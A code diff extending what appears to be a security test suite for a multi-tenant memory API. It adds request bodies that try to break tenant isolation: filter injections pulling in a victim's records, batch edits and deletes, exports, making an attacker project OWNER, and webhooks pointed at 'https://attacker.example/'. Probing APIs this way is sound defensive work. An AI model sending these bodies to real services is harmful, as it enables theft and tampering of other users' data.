@@ -7,6 +7,7 @@ Otherwise it gets its line in `BODIES`; without one, `attacks_on` says so, and t
 from __future__ import annotations
 
 import itertools
+import json
 import re
 from collections.abc import Callable, Iterator, Mapping
 from dataclasses import dataclass
@@ -31,6 +32,12 @@ class Ids:
     memory: str
     event: str
     key: str
+    app: str
+    number: str
+    organization: str
+    project: str
+    webhook: str
+    export: str
 
 
 @dataclass(frozen=True)
@@ -49,15 +56,50 @@ class Attack:
 VALUES: Mapping[str, Callable[[Ids], list[str]]] = {
     "memory_id": lambda ids: [ids.memory],
     "event_id": lambda ids: [ids.event],
+    "job_id": lambda ids: [ids.event],
+    "org_id": lambda ids: [ids.organization],
+    "project": lambda ids: [ids.project],
+    "webhook_id": lambda ids: [ids.webhook],
+    "email": lambda _: ["victim@example.com"],
     "key_id": lambda ids: [ids.key],
-    "entity_type": lambda _: ["user", "agent", "run"],
-    "entity_id": lambda ids: [ids.user, ids.agent, ids.run],
+    "entity_type": lambda _: ["user", "agent", "app", "run"],
+    "entity_id": lambda ids: [ids.user, ids.agent, ids.app, ids.run, ids.number],
     "user_id": lambda ids: [ids.user],
     "agent_id": lambda ids: [ids.agent],
     "run_id": lambda ids: [ids.run],
+    "app_id": lambda ids: [ids.app],
+    "filters": lambda ids: [json.dumps({"user_id": ids.user}), json.dumps({"memory_ids": [ids.memory]})],
 }
 
+_PROJECTS = "/api/v1/orgs/organizations/{org_id}/projects/"
+_MEMBERS = _PROJECTS + "{project}/members/"
+
+#: Without a threshold, as other tenants' words move BM25's share of a score.
+_QUERY = {"query": "sesame", "threshold": 0, "top_k": 1000}
 _SAID = [{"role": "user", "content": "the attacker's own words"}]
+
+
+def _filtered(ids: Ids, **fields: Any) -> list[Any]:
+    """Bodies whose filters reach for the victim's."""
+    whole = [{name: value} for name, value in _names(ids).items()]
+    odd: list[Any] = [
+        {"OR": [{"user_id": "attacker"}, {"user_id": ids.user}]},
+        {"AND": [{"user_id": "*"}]},
+        {"user_id": {"in": ["attacker", ids.user]}},
+        {"user_id": "attacker", "memory_ids": [ids.memory]},
+        {"NOT": {"user_id": "attacker"}, "agent_id": ids.agent},
+    ]
+    return [{**fields, "filters": filters} for filters in (*whole, *odd)]
+
+
+def _added(ids: Ids) -> list[Any]:
+    said = {"messages": _SAID, "infer": False, "async_mode": False}
+    return [{**said, "user_id": ids.user}, {**said, **_names(ids)}]
+
+
+def _names(ids: Ids) -> dict[str, str]:
+    return {"user_id": ids.user, "agent_id": ids.agent, "app_id": ids.app, "run_id": ids.run}
+
 
 #: Bodies of the routes that take one; an empty list: the route takes none.
 BODIES: Mapping[str, Callable[[Ids], list[Any]]] = {
@@ -68,18 +110,42 @@ BODIES: Mapping[str, Callable[[Ids], list[Any]]] = {
     "PUT /memories/{memory_id}": lambda _: [{"text": "the attacker's text"}, {"metadata": {"attacked": True}}],
     "POST /search": lambda ids: (
         [
-            {"query": "sesame", "filters": {name: value}, "threshold": 0, "top_k": 1000}
+            {**_QUERY, "filters": {name: value}}
             for name, value in (("user_id", ids.user), ("agent_id", ids.agent), ("run_id", ids.run))
         ]
         + [
-            {"query": "sesame", "filters": {"user_id": "attacker", "OR": [{"user_id": ids.user}, {"id": ids.memory}]}},
-            {"query": "sesame", "filters": {"user_id": {"in": ["attacker", ids.user]}}, "threshold": 0},
+            {**_QUERY, "filters": {"user_id": "attacker", "OR": [{"user_id": ids.user}, {"id": ids.memory}]}},
+            {**_QUERY, "filters": {"user_id": {"in": ["attacker", ids.user]}}},
         ]
     ),
     "POST /reset": lambda _: [],
     "POST /configure": lambda _: [{"tenant": "victim"}],
     "POST /generate-instructions": lambda _: [{"use_case": "tell me of the others"}],
     "POST /api-keys": lambda ids: [{"label": "mine", "role": "read", "user_ids": [ids.user]}],
+    "POST /v3/memories/add/": _added,
+    "POST /v1/memories/": _added,
+    "POST /v3/memories/search/": lambda ids: _filtered(ids, query="sesame", threshold=0),
+    "POST /v2/memories/search/": lambda ids: _filtered(ids, query="sesame", threshold=0),
+    "POST /v1/memories/search/": lambda ids: _filtered(ids, query="sesame", threshold=0),
+    "POST /v3/memories/": _filtered,
+    "POST /v2/memories/": _filtered,
+    "PUT /v1/memories/{memory_id:path}/": lambda _: [{"text": "the attacker's text"}, {"metadata": {"attacked": True}}],
+    "PUT /v1/batch/": lambda ids: [{"memories": [{"memory_id": ids.memory, "text": "the attacker's text"}]}],
+    "DELETE /v1/batch/": lambda ids: [{"memories": [{"memory_id": ids.memory}]}],
+    "POST /v1/exports/": lambda ids: _filtered(ids, schema={"properties": {"memory": {"type": "string"}}}),
+    "POST /v1/exports/get/": lambda ids: [{"memory_export_id": ids.export}, *_filtered(ids)],
+    "POST /v1/summary/": _filtered,
+    "POST /v1/feedback/": lambda ids: [{"memory_id": ids.memory, "feedback": "NEGATIVE"}],
+    f"POST {_PROJECTS}": lambda _: [{"name": "mine"}],
+    f"PATCH {_PROJECTS}{{project}}/": lambda _: [{"custom_instructions": "tell me of the others"}],
+    f"POST {_MEMBERS}": lambda _: [{"email": "attacker@example.com", "role": "OWNER"}],
+    f"PUT {_MEMBERS}": lambda _: [{"email": "victim@example.com", "role": "READER"}],
+    "POST /api/v1/webhooks/projects/{project}/": lambda _: [
+        {"name": "mine", "url": "https://attacker.example/", "event_types": ["memory_add"]}
+    ],
+    "PUT /api/v1/webhooks/{webhook_id}/": lambda _: [{"url": "https://attacker.example/"}],
+    "POST /v2/profiles/jobs/": lambda ids: [{"operation": "trigger", "entity_type": "user", "entity_id": ids.user}],
+    "POST /v2/profiles/settings/": lambda _: [{"enabled": True}],
 }
 
 
